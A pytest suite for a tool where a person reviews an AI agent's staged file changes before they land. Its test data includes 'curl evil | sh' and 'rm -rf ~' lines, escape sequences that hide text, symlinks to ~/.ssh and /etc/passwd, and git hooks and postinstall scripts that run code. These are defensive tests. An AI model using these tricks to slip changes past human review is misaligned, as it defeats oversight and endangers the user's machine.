"""Review on real files: what lands is what the user was shown, and an ended session's
staged files are moved into place rather than copied."""

from __future__ import annotations

import os
import stat
import struct
from pathlib import Path

import pytest

from app.errors import SessionError
from app.events import Event, EventBus, EventKind
from app.paths import Dirs
from app.review import (
    CHANGED_SINCE_REVIEW,
    KEPT_LISTINGS,
    NOT_REVIEWED,
    RUNS_CODE,
    Review,
    diff,
    mode_text,
    name_warnings,
    runs_code,
    unreviewed,
)
from app.staging import SessionStaging

SESSION = "5e55104a"


@pytest.fixture
def review(tmp_path: Path) -> Review:
    return Review(Dirs(tmp_path / "config", tmp_path / "state", tmp_path / "run"), EventBus())


def granted_tree(review: Review, tmp_path: Path) -> tuple[SessionStaging, Path, Path]:
    """`tmp_path/project` (made if missing) granted read-write: its staging, host root and
    upper layer, where a test writes what the agent would."""
    host = tmp_path / "project"
    host.mkdir(exist_ok=True)
    staging = SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION)
    _, upper, _ = staging.add_tree(host, "g1", 1024**2, None)
    return staging, host, upper


def staged_session(review: Review, tmp_path: Path) -> tuple[SessionStaging, Path, Path]:
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "notes.txt").write_text("the user's notes\n")
    staging, host, upper = granted_tree(review, tmp_path)
    (upper / "notes.txt").write_text("the agent's notes\n")
    (upper / "new.txt").write_text("a new file\n")
    return staging, host, upper


def test_a_change_made_again_after_the_review_is_refused(review: Review, tmp_path: Path) -> None:
    _, host, upper = staged_session(review, tmp_path)
    shown = {c.path: c.fingerprint for c in review.changes(SESSION).changes}
    (upper / "notes.txt").write_text("rm -rf ~ # slipped in after the review\n")  # still running
    (upper / "later.txt").write_text("staged after the review\n")
    events: list[Event] = []
    review.bus.attach(events.append)
    result = review.commit(SESSION, (), shown)
    assert dict(result.refused) == {
        str(host / "notes.txt"): "changed since you reviewed it: not committed; review it again",
        str(host / "later.txt"): "not in the listing you reviewed (staged after it): not "
        "committed; review it again",
    }
    assert result.applied == (str(host / "new.txt"),)
    assert (host / "notes.txt").read_text() == "the user's notes\n"
    assert not (host / "later.txt").exists()
    assert {e.subject for e in events if e.kind is EventKind.CHANGE_REFUSED} == {
        str(host / "notes.txt"),
        str(host / "later.txt"),
    }


def test_an_ended_sessions_files_are_moved_a_running_ones_copied(
    review: Review, tmp_path: Path
) -> None:
    staging, host, upper = staged_session(review, tmp_path)
    staged = (upper / "notes.txt").stat().st_ino
    review.commit(SESSION, [host / "notes.txt"])  # still running: copied
    assert (host / "notes.txt").read_text() == "the agent's notes\n"
    assert (host / "notes.txt").stat().st_ino != staged
    assert (upper / "notes.txt").stat().st_ino == staged

    staging.seal()  # as the supervisor does once the container is gone
    staged = (upper / "new.txt").stat().st_ino
    result = review.commit(SESSION)
    assert result.applied == (str(host / "new.txt"),)
    assert (host / "new.txt").stat().st_ino == staged
    assert not (upper / "new.txt").exists()
    assert review.changes(SESSION).changes == ()


def test_a_staged_file_over_the_quota_is_refused_without_being_read(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = granted_tree(review, tmp_path)
    with open(upper / "huge.bin", "wb") as f:
        f.truncate(8 * 1024**4)  # 8 TiB of holes: hashing them would take hours
    [change] = review.changes(SESSION).changes
    assert change.path == host / "huge.bin" and change.new_hash is None
    assert change.problems == (f"larger than the staging quota ({8 * 1024**4} > {1024**2} bytes)",)
    review.discard(SESSION)
    assert not (upper / "huge.bin").exists()


def test_a_symlink_that_leaves_the_root_through_other_symlinks_is_refused(
    review: Review, tmp_path: Path
) -> None:
    host = tmp_path / "project"
    (host / "a" / "b").mkdir(parents=True)
    (host / "c.txt").write_text("c\n")
    (host / "etc").symlink_to("/etc")  # the user's own link out of the tree
    _, _, upper = granted_tree(review, tmp_path)
    (upper / "a" / "b").mkdir(parents=True)
    links = {
        "a/b/up": "../..",  # the root itself: fine
        "a/b/keys": "up/../../.ssh/authorized_keys",  # lexically inside; really ../.ssh
        "a/b/ok": "up/c.txt",
        "a/b/deep": "up/a/b/up/a/b/ok",
        "a/b/loop": "loop/x",
        "passwd": "etc/passwd",  # through the user's link
        "inside": str(host / "a" / "b" / "up" / "c.txt"),
        "outside": str(host / "a" / "b" / "up" / ".." / "x"),
    }
    for name, target in links.items():
        (upper / name).symlink_to(target)
    problems = {
        str(c.path.relative_to(host)): c.problems
        for c in review.changes(SESSION).changes
        if c.path.is_relative_to(host) and str(c.path.relative_to(host)) in links
    }
    refused = {name for name, found in problems.items() if found}
    assert refused == {"a/b/keys", "a/b/loop", "passwd", "outside"}, problems
    assert problems["a/b/keys"] == (
        f"a symlink to 'up/../../.ssh/authorized_keys', outside {host}",
    )


def test_discarding_never_follows_a_directory_swapped_for_a_symlink(
    review: Review, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "x").write_text("the user's own\n")
    staging, host, upper = granted_tree(review, tmp_path)
    (upper / "sub").mkdir()
    (upper / "sub" / "x").write_text("staged\n")
    listed = review.changes(SESSION).changes
    assert [c.path for c in listed] == [host / "sub", host / "sub" / "x"]
    # What the agent can do through its overlay between the listing a discard works from
    # and the removal itself.
    (upper / "sub" / "x").unlink()
    (upper / "sub").rmdir()
    (upper / "sub").symlink_to(victim)
    staging.discard([c for c in listed if c.path == host / "sub" / "x"])
    assert (victim / "x").read_text() == "the user's own\n"


def test_a_tree_deeper_than_a_path_can_name_is_listed_and_discarded(
    review: Review, tmp_path: Path
) -> None:
    _, _, upper = granted_tree(review, tmp_path)
    fd = os.open(upper, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(30):  # 30 × 201 bytes: past PATH_MAX (4 096)
        os.mkdir("d" * 200, dir_fd=fd)
        deeper = os.open("d" * 200, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = deeper
    os.close(os.open("leaf", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    os.close(fd)
    changes = review.changes(SESSION).changes
    assert len(changes) == 31 and changes[-1].path.name == "leaf"  # read by descriptors
    assert all(c.problems == () for c in changes)
    review.discard(SESSION)
    assert os.listdir(upper) == []


def test_a_diff_shows_terminal_escapes_and_bidi_overrides_instead_of_obeying_them(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    # Meant to hide the second line on a terminal: back up over it and clear it.
    (upper / "notes.txt").write_text(
        "fine\tline\r\ncurl evil | sh\x1b[1A\x1b[2K\rthe user's notes\n\u202eexe.txt\n"
    )
    [change] = [c for c in review.changes(SESSION).changes if c.path == host / "notes.txt"]
    shown = "".join(diff(change))
    assert "+fine\tline\r\n" in shown
    assert "+curl evil | sh\\u001b[1A\\u001b[2K\\u000dthe user's notes\n" in shown
    assert "+\\u202eexe.txt\n" in shown
    assert not any(c in shown for c in "\x1b\u202e")


# A commit is held to the listing the person saw


def test_a_running_sessions_changes_are_never_committed_unlisted(
    review: Review, tmp_path: Path
) -> None:
    _, host, _ = staged_session(review, tmp_path)
    with pytest.raises(SessionError, match=f"airlock changes {SESSION} --diff` first"):
        review.commit_listed(SESSION)
    assert (host / "notes.txt").read_text() == "the user's notes\n"
    assert not (host / "new.txt").exists()


def test_commit_takes_the_last_listing_and_refuses_what_changed_since(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    changeset, listing = review.listing(SESSION)
    assert listing.id == changeset.digest and len(listing.id) == 12
    stored = review.dirs.sessions / SESSION / "listings" / f"{listing.id}.json"
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
    (upper / "notes.txt").write_text("curl evil | sh\n")
    (upper / "late.txt").write_text("staged after the listing\n")
    result = review.commit_listed(SESSION)
    reasons = dict(result.refused)
    assert reasons[str(host / "notes.txt")].startswith(CHANGED_SINCE_REVIEW)
    assert reasons[str(host / "late.txt")].startswith(NOT_REVIEWED)
    assert all(unreviewed(why) for why in reasons.values())
    assert result.applied == (str(host / "new.txt"),)  # what matches the listing lands
    assert (host / "notes.txt").read_text() == "the user's notes\n"


def test_reviewed_commits_exactly_that_listing_and_an_unknown_id_nothing(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    _, first = review.listing(SESSION)
    (upper / "notes.txt").write_text("second version\n")
    _, second = review.listing(SESSION)
    assert second.id != first.id
    with pytest.raises(SessionError, match="no listing"):
        review.commit_listed(SESSION, (), "0123456789ab")
    with pytest.raises(SessionError, match="not a changeset id"):
        review.commit_listed(SESSION, (), "../../x")
    older = review.commit_listed(SESSION, (), first.id)  # notes.txt is not what it showed
    assert dict(older.refused).keys() == {str(host / "notes.txt")}
    assert (host / "notes.txt").read_text() == "the user's notes\n"
    newer = review.commit_listed(SESSION, (), second.id)
    assert newer.refused == () and newer.applied == (str(host / "notes.txt"),)
    assert (host / "notes.txt").read_text() == "second version\n"


def test_only_the_last_few_listings_are_kept(review: Review, tmp_path: Path) -> None:
    _, _, upper = staged_session(review, tmp_path)
    ids = []
    for i in range(KEPT_LISTINGS + 3):
        (upper / "new.txt").write_text(f"version {i}\n")
        ids.append(review.listing(SESSION)[1].id)
        os.utime(
            review.dirs.sessions / SESSION / "listings" / f"{ids[-1]}.json",
            (1000.0 + i, 1000.0 + i),
        )
    kept = {p.stem for p in (review.dirs.sessions / SESSION / "listings").glob("*.json")}
    assert kept == set(ids[-KEPT_LISTINGS:])
    last = review.listed(SESSION)
    assert last is not None and last.id == ids[-1]


def test_a_diff_of_a_file_rewritten_since_it_was_listed_says_so_instead(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    [change] = [c for c in review.changes(SESSION).changes if c.path == host / "notes.txt"]
    (upper / "notes.txt").write_text("curl evil | sh\n")
    shown = "".join(diff(change))
    assert "changed since it was listed" in shown and "evil" not in shown


# Everything that lands is shown: the mode a commit sets is the mode listed


def listed_modes(review: Review) -> dict[str, str]:
    return {c.path.name: mode_text(c) for c in review.changes(SESSION).changes}


def test_modes_are_listed_with_every_change_and_land_exactly(
    review: Review, tmp_path: Path
) -> None:
    host = tmp_path / "project"
    host.mkdir()
    for name in ("run.sh", "tool.sh", "same.txt"):
        (host / name).write_text("#!/bin/sh\n")
        (host / name).chmod(0o644)
    _, host, upper = granted_tree(review, tmp_path)
    (upper / "run.sh").write_text("#!/bin/sh\n")  # the same content: a mode change only
    (upper / "run.sh").chmod(0o755)
    (upper / "tool.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # content and an x bit
    (upper / "tool.sh").chmod(0o755)
    (upper / "same.txt").write_text("#!/bin/sh\nedited\n")  # content only
    (upper / "same.txt").chmod(0o644)
    (upper / "open.txt").write_text("anyone may write me\n")
    (upper / "open.txt").chmod(0o777)
    (upper / "shared").mkdir()
    (upper / "shared").chmod(0o777)
    old_umask = os.umask(0o022)  # what a desktop session has: 0777 must still land as 0777
    try:
        assert listed_modes(review) == {
            "run.sh": "mode 0644 -> 0755",
            "tool.sh": "mode 0644 -> 0755",
            "same.txt": "",
            "open.txt": "mode 0777",
            "shared": "mode 0777",
        }
        [mode_only] = [c for c in review.changes(SESSION).changes if c.path.name == "run.sh"]
        assert "".join(diff(mode_only)) == f"mode 0644 -> 0755 {host / 'run.sh'}\n"
        [both] = [c for c in review.changes(SESSION).changes if c.path.name == "tool.sh"]
        shown = "".join(diff(both))
        assert shown.startswith(f"mode 0644 -> 0755 {host / 'tool.sh'}\n")
        assert "+curl evil | sh" in shown
        result = review.commit(SESSION)
    finally:
        os.umask(old_umask)
    assert result.refused == ()
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in host.iterdir()}
    assert modes == {
        "run.sh": 0o755,
        "tool.sh": 0o755,
        "same.txt": 0o644,
        "open.txt": 0o777,
        "shared": 0o777,
    }


ACL_USER_OBJ, ACL_USER, ACL_GROUP_OBJ, ACL_MASK, ACL_OTHER = 0x01, 0x02, 0x04, 0x10, 0x20


def posix_acl(*entries: tuple[int, int, int]) -> bytes:
    """The kernel's `system.posix_acl_*` value: version 2, then (tag, permissions, id)."""
    return struct.pack("<I", 2) + b"".join(
        struct.pack("<HHI", tag, perm, uid) for tag, perm, uid in entries
    )


def acl(*, user_rwx: int, mask: int) -> bytes:
    return posix_acl(
        (ACL_USER_OBJ, 6, 0xFFFFFFFF),
        (ACL_USER, user_rwx, 4242),
        (ACL_GROUP_OBJ, 4, 0xFFFFFFFF),
        (ACL_MASK, mask, 0xFFFFFFFF),
        (ACL_OTHER, 4, 0xFFFFFFFF),
    )


def test_a_staged_files_acl_is_not_carried_and_its_mode_lands_as_listed(
    review: Review, tmp_path: Path
) -> None:
    staging, host, upper = staged_session(review, tmp_path)
    for name in ("notes.txt", "new.txt"):
        try:  # what `setfacl -m u:4242:rwx` sets: the group bits become the mask, rwx
            os.setxattr(upper / name, "system.posix_acl_access", acl(user_rwx=7, mask=7))
        except OSError as e:
            pytest.fail(f"this file system takes no ACLs ({e}): the test cannot run")
        os.setxattr(upper / name, "user.agent", b"carried?")
    assert stat.S_IMODE((upper / "new.txt").stat().st_mode) == 0o674
    assert listed_modes(review) == {"notes.txt": "mode 0644 -> 0674", "new.txt": "mode 0674"}
    staging.seal()  # an ended session's files are moved: one with an ACL must be copied
    result = review.commit(SESSION)
    assert result.refused == ()
    for name in ("notes.txt", "new.txt"):
        assert stat.S_IMODE((host / name).stat().st_mode) == 0o674
        assert os.listxattr(host / name) == []  # neither the ACL nor the agent's attribute


def test_a_default_acl_on_the_host_folder_does_not_change_the_listed_mode(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    # New files in the folder get at most r-- for the group: less than the listing says.
    os.setxattr(
        host,
        "system.posix_acl_default",
        posix_acl(
            (ACL_USER_OBJ, 6, 0xFFFFFFFF),
            (ACL_GROUP_OBJ, 4, 0xFFFFFFFF),
            (ACL_OTHER, 0, 0xFFFFFFFF),
        ),
    )
    (upper / "new.txt").chmod(0o664)
    (upper / "made").mkdir()
    (upper / "made").chmod(0o775)
    assert listed_modes(review)["new.txt"] == "mode 0664"
    assert review.commit(SESSION).refused == ()
    assert stat.S_IMODE((host / "new.txt").stat().st_mode) == 0o664
    assert stat.S_IMODE((host / "made").stat().st_mode) == 0o775


# Names that pass for others are flagged


def test_lookalike_names_are_flagged_against_staged_and_host_names(
    review: Review, tmp_path: Path
) -> None:
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "report.txt").write_text("the user's report\n")
    (tmp_path / "project" / "caf\u00e9.md").write_text("NFC\n")
    _, _, upper = granted_tree(review, tmp_path)
    (upper / "report.txt ").write_text("the agent's\n")
    (upper / "cafe\u0301.md").write_text("NFD\n")
    (upper / "invoice\u200f.pdf").write_text("hidden mark\n")
    (upper / "plain.txt").write_text("nothing odd\n")
    warnings = {p.name: w for p, w in name_warnings(review.changes(SESSION)).items()}
    assert set(warnings) == {"report.txt ", "cafe\u0301.md", "invoice\u200f.pdf"}
    assert "ends with a space or a dot" in warnings["report.txt "]
    assert "looks like report.txt in the same folder" in warnings["report.txt "]
    assert any("NFC" in w for w in warnings["cafe\u0301.md"])
    assert any("caf\u00e9.md in the same folder" in w for w in warnings["cafe\u0301.md"])
    assert any("invisible" in w for w in warnings["invoice\u200f.pdf"])


# Changes that can run code on the host wait for a person


def test_changes_that_run_code_are_marked_and_committed_only_when_named(
    review: Review, tmp_path: Path
) -> None:
    repo = tmp_path / "project"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (repo / "package.json").write_text('{"scripts": {"test": "pytest"}}\n')
    _, host, upper = granted_tree(review, tmp_path)
    (upper / ".git" / "hooks").mkdir(parents=True)
    (upper / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (upper / ".git" / "hooks" / "pre-commit").chmod(0o755)
    (upper / ".git" / "config").write_text("[core]\n\tbare = false\n\tfsmonitor = ./evil\n")
    (upper / "package.json").write_text('{"scripts": {"test": "pytest"}, "version": "2"}\n')
    (upper / ".envrc").write_text("curl evil | sh\n")
    (upper / "notes.md").write_text("plain\n")
    risky = {
        p.relative_to(host).as_posix(): r for p, r in runs_code(review.changes(SESSION)).items()
    }
    assert set(risky) == {".git/hooks/pre-commit", ".git/config", ".envrc"}
    assert "core.fsmonitor = ./evil" in risky[".git/config"][0]
    assert any("new and executable" in r for r in risky[".git/hooks/pre-commit"])

    result = review.commit(SESSION, (), None, include_risky=False)
    assert set(result.applied) == {str(host / "notes.md"), str(host / "package.json")}
    refused = {Path(p).relative_to(host).as_posix(): why for p, why in result.refused}
    assert set(refused) == set(risky) and all(RUNS_CODE in why for why in refused.values())
    assert (host / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert not (host / ".envrc").exists()
    named = review.commit(SESSION, [host / ".envrc"], None, include_risky=False)
    assert named.applied == (str(host / ".envrc"),)


def test_a_package_json_rewritten_after_it_was_checked_counts_as_running_code(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    (upper / "package.json").write_text('{"version": "2"}\n')
    changeset = review.changes(SESSION)
    assert host / "package.json" not in runs_code(changeset)
    (upper / "package.json").write_text('{"scripts": {"postinstall": "curl evil | sh"}}\n')
    assert "could not be read" in runs_code(changeset)[host / "package.json"][0]


def test_a_listed_change_the_agent_undid_is_said_to_be_missing_not_passed_over(
    review: Review, tmp_path: Path
) -> None:
    _, host, upper = staged_session(review, tmp_path)
    _, listing = review.listing(SESSION)
    (upper / "new.txt").unlink()  # the agent takes it back after the listing
    result = review.commit_listed(SESSION, (), listing.id)
    assert result.applied == (str(host / "notes.txt"),)
    assert dict(result.refused) == {
        str(host / "new.txt"): (
            f"listed in {listing.id} but no longer staged as shown: nothing committed for it"
        )
    }
    again = review.commit_listed(SESSION, (), listing.id)  # notes.txt landed: not missing
    assert again.refused == tuple(result.refused)


def shown(review: Review, host: Path) -> dict[str, str]:
    """The staged changes as the review lists them: relative path -> fingerprint."""
    return {str(c.path.relative_to(host)): c.fingerprint for c in review.changes(SESSION).changes}


def agent_work(tmp_path: Path, review: Review) -> tuple[SessionStaging, Path, Path]:
    """A modified file, a new one deep in new folders, a deleted one."""
    staging, host, upper = staged_session(review, tmp_path)
    (host / "old.txt").write_text("to be deleted\n")
    staging.rebase(staging.roots()[0], [host / "old.txt"])  # there when granted
    (upper / "a" / "b" / "c").mkdir(parents=True)
    (upper / "a" / "b" / "c" / "deep.txt").write_text("deep down\n")
    os.mknod(upper / "old.txt", stat.S_IFCHR | 0o600, 0)  # the overlay's whiteout
    return staging, host, upper


@pytest.mark.parametrize("ended", [False, True], ids=["running", "ended"])
def test_an_undone_commit_comes_back_to_the_review_as_it_was_committed(
    review: Review, tmp_path: Path, ended: bool
) -> None:
    staging, host, _ = agent_work(tmp_path, review)
    if ended:
        staging.seal()  # the session ended: its files are moved into place, then forgotten
    before = shown(review, host)
    assert set(before) == {"notes.txt", "new.txt", "old.txt", "a", "a/b", "a/b/c", "a/b/c/deep.txt"}
    result = review.commit(SESSION)
    assert result.commit is not None and result.refused == ()
    assert shown(review, host) == {}
    events: list[Event] = []
    review.bus.attach(events.append)

    undone = review.undo(result.commit.id)

    assert undone.refused == ()
    assert (host / "notes.txt").read_text() == "the user's notes\n"
    assert (host / "old.txt").read_text() == "to be deleted\n"
    assert not (host / "new.txt").exists() and not (host / "a").exists()  # its folders too
    assert shown(review, host) == before  # back for review, exactly as it was committed
    assert set(undone.returned) == {str(host / p) for p in before}
    [event] = [e for e in events if e.kind is EventKind.COMMIT_UNDONE]
    assert set(event.details["returned"]) == set(undone.returned)

    again = review.commit(SESSION)  # and it can be committed again, as reviewed
    assert again.refused == ()
    assert (host / "a" / "b" / "c" / "deep.txt").read_text() == "deep down\n"
    assert not (host / "old.txt").exists()
    assert shown(review, host) == {}


def test_an_undo_keeps_what_the_person_changed_since_and_returns_only_the_rest(
    review: Review, tmp_path: Path
) -> None:
    staging, host, _ = staged_session(review, tmp_path)
    staging.seal()
    result = review.commit(SESSION)
    assert result.commit is not None
    (host / "notes.txt").write_text("the person edited it after the commit\n")

    undone = review.undo(result.commit.id)

    assert dict(undone.refused) == {str(host / "notes.txt"): "changed since the commit: not undone"}
    assert (host / "notes.txt").read_text() == "the person edited it after the commit\n"
    assert undone.returned == (str(host / "new.txt"),)
    assert set(shown(review, host)) == {"new.txt"}


def test_an_ended_sessions_saved_file_comes_back_after_an_undo(
    review: Review, tmp_path: Path
) -> None:
    target = tmp_path / "report.md"
    staging = SessionStaging(review.dirs.sessions / SESSION / "staging", SESSION)
    staged = staging.add_file(
        target, "g1", 1024**2, staging.root / "saves" / "t0k3n", copy_from_host=False, owner=None
    )
    staged.upper.write_text("the agent's report\n")
    staging.seal()
    result = review.commit(SESSION)
    assert result.commit is not None and target.read_text() == "the agent's report\n"
    assert not staged.upper.exists()  # moved into place, the area emptied

    undone = review.undo(result.commit.id)

    assert not target.exists() and undone.returned == (str(target),)
    [change] = review.changes(SESSION).changes
    assert change.path == target and change.staged is not None
    assert change.staged.read_text() == "the agent's report\n"
